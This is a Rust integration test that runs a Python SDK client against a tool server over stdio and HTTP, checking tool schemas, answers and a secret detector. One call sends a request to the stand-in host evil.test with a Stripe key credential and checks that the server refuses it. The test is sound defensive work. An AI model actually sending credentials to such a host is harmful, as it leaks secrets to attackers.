//! A client that we did not write, the Python SDK of the protocol: all tools, on standard input and output and over HTTP, in
//! the protocol's old and new ways.
//!
//! `scripts/test` installs it. One that is not there is a failure and never a skip.

use std::{
    io::{BufRead, BufReader, Lines, Write},
    process::{Child, ChildStdin, ChildStdout, Command, Stdio},
};

use serde_json::{Value, json};

use crate::{
    harness::{Server, TACIT},
    mcp::Scene,
};

/// A running client.
struct Agent {
    child: Child,
    input: Option<ChildStdin>,
    lines: Lines<BufReader<ChildStdout>>,
    /// What the server said of itself.
    said: Value,
}

impl Agent {
    fn start(server: &Server, transport: &str, mode: &str) -> Self {
        let python =
            std::env::var_os("TACIT_TEST_MCP_PYTHON").expect("set TACIT_TEST_MCP_PYTHON; scripts/test does");
        let mut child = Command::new(python)
            .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/clients/mcp_client.py"))
            .args([transport, mode])
            .env("TACIT_ADDR", &server.url)
            .env("TACIT_TOKEN", &server.owner.token)
            .env("TACIT_TEST_BINARY", TACIT)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let input = child.stdin.take();
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let said = lines.next().expect("the client connects").unwrap();
        Self { child, input, lines, said: serde_json::from_str(&said).unwrap() }
    }

    fn call(&mut self, tool: &str, arguments: &Value) -> Value {
        let call = json!({"tool": tool, "arguments": arguments});
        writeln!(self.input.as_mut().unwrap(), "{call}").unwrap();
        let answer = self.lines.next().unwrap_or_else(|| panic!("{tool} brought nothing")).unwrap();
        serde_json::from_str(&answer).unwrap()
    }

    fn finish(mut self) {
        self.input = None;
        assert!(self.child.wait().unwrap().success());
    }
}

async fn all_tools(transport: &str, mode: &str, protocol: &str) {
    let scene = Scene::new().await;
    let mut agent = Agent::start(&scene.server, transport, mode);
    assert_eq!(agent.said["protocol"], protocol);
    assert!(agent.said["instructions"].as_str().is_some_and(|text| text.contains("find_secrets")));
    let tools: Vec<&str> =
        agent.said["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
    let calls = scene.calls();
    assert_eq!(tools, calls.iter().map(|(tool, _)| *tool).collect::<Vec<_>>());
    let mut answers: Vec<Value> = Vec::new();
    for (tool, mut arguments) in calls {
        if arguments["id"] == "#" {
            arguments["id"] = answers.last().unwrap()["id"].clone();
        }
        // The client checks what comes against the tool's schema and fails if it does not fit.
        let answer = agent.call(tool, &arguments);
        scene.detector.assert_clean(answer.to_string(), tool);
        assert_eq!(answer["is_error"], false, "{tool}: {answer}");
        let text: Value = serde_json::from_str(answer["text"].as_str().unwrap()).unwrap();
        assert_eq!(text, answer["structured"], "the text is the structure");
        answers.push(answer["structured"].clone());
    }
    scene.assert_answers(&answers).await;
    scene.assert_recorded("agent:python-sdk").await;
    let refused = agent.call("send_request", &json!({"url": "https://evil.test/", "auth": "STRIPE_KEY"}));
    assert_eq!(
        (&refused["is_error"], &refused["structured"]["code"]),
        (&json!(true), &json!("destination_not_allowed"))
    );
    agent.finish();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_standard_input_and_output() {
    all_tools("stdio", "legacy", "2025-11-25").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_standard_input_and_output_without_a_handshake() {
    all_tools("stdio", "auto", "2026-07-28").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_http() {
    all_tools("http", "legacy", "2025-11-25").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn over_http_without_a_handshake() {
    all_tools("http", "auto", "2026-07-28").await;
}
